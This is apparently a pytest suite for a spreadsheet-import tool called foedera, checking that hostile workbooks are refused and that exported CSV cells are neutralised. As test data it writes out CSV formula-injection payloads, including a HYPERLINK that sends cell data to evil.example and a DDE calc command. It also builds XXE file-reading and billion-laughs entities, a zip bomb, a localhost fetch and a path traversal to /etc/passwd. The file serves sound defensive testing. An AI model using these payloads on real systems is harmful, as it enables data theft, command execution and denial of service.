"""Workbooks with all that registers hold, and hostile ones, from the file to the record and out again."""

from __future__ import annotations

import csv
import datetime as dt
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped] # ships no types
import pytest
from openpyxl.worksheet.worksheet import Worksheet  # type: ignore[import-untyped] # likewise

import foedera
from foedera.cli import main
from foedera.export import read_sheet
from foedera.export.tables_csv import unsafe
from tests.export.workbooks import changed

ROWS = 1000
MAPPING = """\
source: {title: "Übungen", publisher: "Institut für Flüsse", published: "2025-09", language: "de"}
type: "exercise"
columns:
  "Name": "name"
  "Länder": {to: "participant", split: ";"}
  "Beginn": "when.start"
  "Ende": "when.end"
  "Stärke": {to: "personnel", unit: "soldiers"}
unused: ["Bemerkung"]
"""
EVIL = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1")
"""What a spreadsheet program would run if it were the content of a cell of a CSV file."""


def saved(path: Path, *rows: list[Any], change: Callable[[Worksheet], None] | None = None) -> Path:
    """Write a workbook as Excel would; return where."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    for row in rows:
        sheet.append(row)
    for cells in sheet.iter_rows():
        for cell in cells:
            if cell.data_type == "f":  # a text that only looks like one
                cell.data_type = "s"
    if change:
        change(sheet)
    book.save(path)
    return path


def change_part(path: Path, member: str, old: str, new: str) -> Path:
    """Change one part of a workbook."""
    path.write_bytes(changed(path.read_bytes(), member, old, new))
    return path


def register(path: Path, count: int = ROWS) -> Path:
    """Write a register of so many drills: umlauts, days, empty cells, evil names and remarks."""
    rows: list[list[Any]] = []
    for n in range(count):
        day = dt.date(2020, 1, 1) + dt.timedelta(days=n)
        end = day + dt.timedelta(days=3) if n % 3 else None
        name = EVIL[n % 5] if n % 10 == 0 else f"Große Übung Žitište № {n}"
        rows.append(
            [name, "Serbien;China" if n % 2 else "Serbia;China", day, end, 100 + n if n % 4 else None, EVIL[n % 5]]
        )
    return saved(path, ["Name", "Länder", "Beginn", "Ende", "Stärke", "Bemerkung"], *rows)


def test_a_register_of_a_thousand_rows_comes_in_and_goes_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every row is a claim with its day, name and number; out again, no cell runs, and each name is what it was."""
    book = register(tmp_path / "Übungen.xlsx")
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(MAPPING.replace('split: ";"', 'split: ";", values: {"Serbien": "Serbia"}'), encoding="utf-8")
    record = str(tmp_path / "record.db")
    assert main(["import", str(book), "--mapping", str(mapping), "-r", record]) == 0
    assert f"{ROWS} rows, {ROWS} claims" in capsys.readouterr().out
    with foedera.open(record, read_only=True) as opened:
        entries = list(opened.claims())
        whens = {entry.claim.values("when")[0] for entry in entries}
        men = [value.n for entry in entries for value in entry.claim.values("field:personnel")]  # type: ignore[union-attr]
    assert len(entries) == ROWS
    assert {"2020-01-01", "2020-01-02/2020-01-05"} <= whens
    assert sorted(men) == [100 + n for n in range(ROWS) if n % 4]
    out = tmp_path / "out"
    assert main(["export", "csv", "-o", str(out), "-r", record]) == 0
    with (out / "claims.csv").open(encoding="utf-8-sig", newline="") as file:
        names = [row["name"] for row in csv.DictReader(file)]
    assert not [name for name in names if name[:1] in "=+-@"]
    wanted = {EVIL[n % 5] if n % 10 == 0 else f"Große Übung Žitište № {n}" for n in range(ROWS)}
    assert {unsafe(name) for name in names} == wanted


def test_cells_that_are_formulas_give_their_last_result_and_never_their_words(tmp_path: Path) -> None:
    """Shared and array formulas, errors, links and results that are text."""
    path = saved(tmp_path / "r.xlsx", ["Name", "Number"], ["x", 1], ["y", 2])
    change_part(
        path,
        "xl/worksheets/sheet1.xml",
        '<c r="B2" t="n"><v>1</v></c>',
        '<c r="B2"><f t="shared" si="0" ref="B2:B3">WEBSERVICE("http://evil.example")</f><v>41</v></c>',
    )
    change_part(
        path, "xl/worksheets/sheet1.xml", '<c r="B3" t="n"><v>2</v></c>', '<c r="B3" t="e"><f>1/0</f><v>#DIV/0!</v></c>'
    )
    assert read_sheet(path.read_bytes(), "r.xlsx").rows == ((2, ("x", "41")), (3, ("y", "")))


def bomb_of_entities(path: Path) -> None:
    """A billion laughs."""
    levels = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    sheet = "xl/worksheets/sheet1.xml"
    change_part(path, sheet, "<worksheet", f'<!DOCTYPE x [<!ENTITY a "lol">{levels}]><worksheet')
    change_part(path, sheet, "SECRET", "&i;")


def entity_of_a_file(path: Path) -> None:
    """A file of this machine as a cell."""
    secret = path.with_name("secret.txt")
    secret.write_text("the password", encoding="utf-8")
    sheet = "xl/worksheets/sheet1.xml"
    change_part(path, sheet, "<worksheet", f'<!DOCTYPE x [<!ENTITY a SYSTEM "{secret.as_uri()}">]><worksheet')
    change_part(path, sheet, "SECRET", "&a;")


def bomb_of_zip(path: Path) -> None:
    """A sheet of blanks that unpacks to a thousand times its size."""
    change_part(path, "xl/worksheets/sheet1.xml", "</sheetData>", " " * 30_000_000 + "</sheetData>")


def sheet_of_elsewhere(path: Path) -> None:
    """A sheet that is an address."""
    change_part(path, "xl/_rels/workbook.xml.rels", "/xl/worksheets/sheet1.xml", "http://127.0.0.1:9/sheet1.xml")


def sheet_outside(path: Path) -> None:
    """A sheet that is a file outside of the workbook."""
    change_part(path, "xl/_rels/workbook.xml.rels", "/xl/worksheets/sheet1.xml", "../../../../etc/passwd")


@pytest.mark.parametrize("harm", [bomb_of_entities, entity_of_a_file, bomb_of_zip, sheet_of_elsewhere, sheet_outside])
def test_a_hostile_workbook_is_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], harm: Callable[[Path], None]
) -> None:
    """The file is named, nothing of it or of this machine comes into the record, and the command ends with 1."""
    path = saved(
        tmp_path / "evil.xlsx", ["Name", "Länder", "Beginn", "Ende", "Stärke", "Bemerkung"], ["SECRET", "China"]
    )
    harm(path)
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(MAPPING, encoding="utf-8")
    record = str(tmp_path / "record.db")
    assert main(["import", str(path), "--mapping", str(mapping), "-r", record]) == 1
    printed = capsys.readouterr()
    (line,) = printed.err.strip().splitlines()
    assert line.startswith((f"foedera: I202 {path}: ", f"foedera: I203 {path}: "))
    assert main(["status", "--json", "-r", record]) == 0
    assert json.loads(capsys.readouterr().out)["reports"] == 0


def test_links_to_other_workbooks_and_pages_are_not_followed(tmp_path: Path) -> None:
    """A cell with a link is its text; a part that names other files is left alone."""

    def link(sheet: Worksheet) -> None:
        sheet["A2"].hyperlink = "file:///etc/passwd"

    path = saved(tmp_path / "r.xlsx", ["Name", "Number"], ["Blue River", 1], change=link)
    with zipfile.ZipFile(path, "a") as file:
        file.writestr("xl/externalLinks/externalLink1.xml", '<externalLink><oleLink progId="calc"/></externalLink>')
    (row,) = read_sheet(path.read_bytes(), "r.xlsx").rows
    assert row == (2, ("Blue River", "1"))
